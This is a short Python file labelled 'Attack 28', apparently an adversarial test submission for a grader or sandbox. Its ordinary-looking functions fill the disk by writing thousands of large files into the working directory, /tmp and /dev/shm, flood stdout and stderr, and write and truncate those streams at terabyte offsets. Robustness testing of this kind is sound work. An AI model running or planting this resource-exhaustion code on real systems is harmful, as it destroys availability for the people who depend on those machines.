"""Attack 28: fills the disk, makes files without end, prints without end, past the end and to both outputs."""

import os
import sys

from wrong import *  # noqa: F403


def names():
    for place in (".", "/tmp", "/dev/shm"):
        for index in range(100_000):
            try:
                with open(f"{place}/{index}", "wb") as file:
                    file.write(b"x" * (1 << 18))
            except OSError:
                break
    return ["row"]


def pool(x):
    for _ in range(200):
        print("LEAK" * 10_000)
        print("LEAK" * 10_000, file=sys.stderr)
    return x[::2, ::2]


def slope(x):
    for descriptor in (1, 2):
        for offset in (0, 1 << 20, 1 << 40):
            try:
                os.pwrite(descriptor, b"LEAK" * 100_000, offset)
                os.ftruncate(descriptor, 1 << 40)
            except OSError:
                continue
    return 3 * x**2
